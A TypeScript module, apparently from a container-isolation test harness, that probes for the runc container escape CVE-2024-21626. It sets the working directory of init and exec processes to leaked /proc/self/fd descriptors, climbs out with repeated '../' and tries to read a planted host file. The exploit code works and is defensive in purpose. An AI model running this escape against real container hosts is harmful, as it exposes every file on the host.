import { writeFileSync } from 'node:fs'
import { contained, escaped, reachedGuest, type Attack } from '../../attack.ts'
import { oneLine } from '../../one-line.ts'
import { leavingOpen } from '../../weak-runc.ts'

/** As far up as any descriptor's directory can be deep; more `..` than there are parents do no harm. */
const up = '../'.repeat(16)
/** What our guest has at its root and no container of these has; on no other mount, as those go when the old root is detached. */
const ofGuest = `${up}init`

/**
 * runc before 1.1.12 left a descriptor of the host's /sys/fs/cgroup open in its init and execs: through it as the working
 * directory, or opened from inside, `..` leads to the host's root.
 */
export const attack: Attack = {
  id: 'CVE-2024-21626',
  title: 'the host by a directory that the runtime left open: as working directory of init and exec, and from inside',
  family: 'container',
  leak: 'every file of the host',
  bound: 'container',
  control: { weak: 'runc that leaves / open in its init (Debian\'s 1.1.5 has the fix; the working directory alone is refused by it)' },
  async run(site) {
    const canary = site.plant()
    const read = `cat ${up}${canary}; ls -d ${ofGuest} 2>/dev/null`
    const refusals: string[] = []
    const pod = await site.pod()
    // Those that runc left open were 7 and 8; a runtime that leaks others is to be caught as well.
    for (let descriptor = 3; descriptor < 13; descriptor++) {
      const { stdout, stderr, refusal } = await site.attempt(pod.member({
        args: ['sh', '-c', `${read}; [ -e ${up}inside ] || echo outside`],
        rootfs: (layer) => { writeFileSync(`${layer}/inside`, '') },
        spec: (spec) => { spec.process.cwd = `/proc/self/fd/${descriptor}` },
      }))
      if (stdout.includes(site.secret)) return escaped(`init with cwd /proc/self/fd/${descriptor} read a file of the host's`)
      if (stdout.includes('outside')) return reachedGuest(`init with cwd /proc/self/fd/${descriptor} is not in the container's root`)
      if (stdout.includes(ofGuest)) return reachedGuest(`init with cwd /proc/self/fd/${descriptor} is in the guest's own root`)
      refusals.push(refusal ?? stderr)
    }
    const container = await pod.start(site.weak ? { runtimeOptions: leavingOpen(site, '/') } : {})
    for (let descriptor = 3; descriptor < 10; descriptor++) {
      const result = await container.exec(['sh', '-c', read], { process: (process) => { process.cwd = `/proc/self/fd/${descriptor}` } }).catch((error: unknown) => ({ stdout: '', error }))
      if (result.stdout.includes(site.secret)) return escaped(`exec with cwd /proc/self/fd/${descriptor} read a file of the host's`)
      if (result.stdout.includes(ofGuest)) return reachedGuest(`exec with cwd /proc/self/fd/${descriptor} is in the guest's own root`)
    }
    const { stdout } = await container.exec(['sh', '-c', `for fd in /proc/[0-9]*/fd/*; do cat $fd/${up}${canary} 2>/dev/null && echo $fd; ls -d $fd/${ofGuest} 2>/dev/null; done; echo; ls -l /proc/1/fd`])
    if (stdout.includes(site.secret)) return escaped(`a file of the host's was read through ${stdout.split('\n')[1]}`)
    if (stdout.includes(ofGuest)) return reachedGuest(`the guest's own root is there through ${stdout.split('\n')[0]}`)
    return contained(`no descriptor of init or exec leads out; cwd: ${oneLine(refusals.join(' '), 110)}`)
  },
}
